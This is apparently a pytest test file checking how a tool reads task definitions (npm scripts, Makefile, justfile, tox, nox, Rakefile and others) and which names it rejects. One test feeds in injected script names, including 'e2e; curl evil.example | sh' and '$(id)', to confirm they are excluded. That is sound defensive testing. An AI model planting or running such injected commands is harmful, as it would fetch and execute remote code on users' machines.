"""Named tasks: what a project wrote down under a name, as the command a person types."""

from __future__ import annotations

import json

import pytest
from detection_trees import main_of

from penstock.pipelines.answers import service_document

NODE = {"dependencies": {"express": "^5"}}
SERVER = {"server.js": "require('express')().listen(3000)\n"}


def tasks(files):
    return {task.name: (task.command, str(task.source)) for task in main_of(files).tasks}


def package(scripts, **files):
    return {"package.json": json.dumps({**NODE, "scripts": scripts}, indent=1), **SERVER, **files}


def test_scripts_of_package_json_are_tasks_of_the_projects_own_manager():
    scripts = {"start": "node server.js", "test:e2e": "playwright test"}
    assert tasks(package(scripts))["test:e2e"] == ("npm run test:e2e", "package.json:7 test:e2e")
    assert tasks(package(scripts, **{"pnpm-lock.yaml": "lockfileVersion: '9.0'\n"}))["test:e2e"][0] == "pnpm test:e2e"


@pytest.mark.parametrize(
    ("name", "body"),
    [
        ("e2e", "echo nothing yet"),
        ("e2e", "jest --watch"),
        ("dev", "nodemon server.js"),
        ("e2e:stack", "docker compose up"),
        ("pretest", "tsc"),
        ("postinstall", "node setup.js"),
        ("e2e; curl evil.example | sh", "playwright test"),
        ("--version", "playwright test"),
        ("$(id)", "playwright test"),
    ],
)
def test_placeholders_watchers_hooks_and_names_that_need_quoting_are_no_tasks(name, body):
    assert set(tasks(package({"start": "node server.js", name: body}))) == {"start"}


@pytest.mark.parametrize(
    ("file", "text", "name", "command"),
    [
        ("Makefile", ".PHONY: e2e\ne2e: build\n\t./run.sh\n", "e2e", "make e2e"),
        ("justfile", "e2e:\n    ./run.sh\n", "e2e", "just e2e"),
        ("Taskfile.yml", "version: '3'\ntasks:\n  e2e:\n    cmds: [./run.sh]\n", "e2e", "task e2e"),
        ("tox.ini", "[tox]\nenvlist = py312\n[testenv:e2e]\ncommands = pytest e2e\n", "e2e", "tox -e e2e"),
        ("noxfile.py", "import nox\n\n@nox.session(python='3.12')\ndef e2e(session):\n    pass\n", "e2e", "nox -s e2e"),
        ("noxfile.py", "import nox\n\n@nox.session(name='e2e')\ndef end(session):\n    pass\n", "e2e", "nox -s e2e"),
        ("pyproject.toml", '[tool.poe.tasks]\ne2e = "pytest e2e"\n', "e2e", "poe e2e"),
        ("composer.json", '{"scripts": {"e2e": "codecept run"}}', "e2e", "composer run e2e"),
        ("deno.json", '{"tasks": {"e2e": "deno test e2e"}}', "e2e", "deno task e2e"),
        ("mix.exs", 'defp aliases do\n  [\n    "e2e": ["test e2e"]\n  ]\nend\n', "e2e", "mix e2e"),
        ("Rakefile", "task :e2e do\n  sh 'run'\nend\n", "e2e", "bundle exec rake e2e"),
    ],
)
def test_each_kind_of_task_file_is_read(file, text, name, command):
    found = tasks(package({"start": "node server.js"}, **{file: text}))
    assert found[name][0] == command
    assert found[name][1].startswith(file)


def test_a_target_that_needs_a_container_engine_or_is_a_file_is_no_task():
    makefile = "e2e:\n\tdocker compose run e2e\nbin/app:\n\tgo build\napp.css: x\n\tsass x\n%.o: x\n\tcc x\n"
    assert set(tasks(package({"start": "node server.js"}, Makefile=makefile))) == {"start"}


def test_there_are_at_most_sixty():
    scripts = {"start": "node server.js", **{f"task-{number}": "node x.js" for number in range(100)}}
    assert len(main_of(package(scripts)).tasks) == 60


def test_the_document_of_facts_lists_them():
    service = main_of(package({"start": "node server.js", "docs": "typedoc"}))
    assert {"name": "docs", "command": "npm run docs", "source": "package.json:7 docs"} in service_document(service)[
        "tasks"
    ]
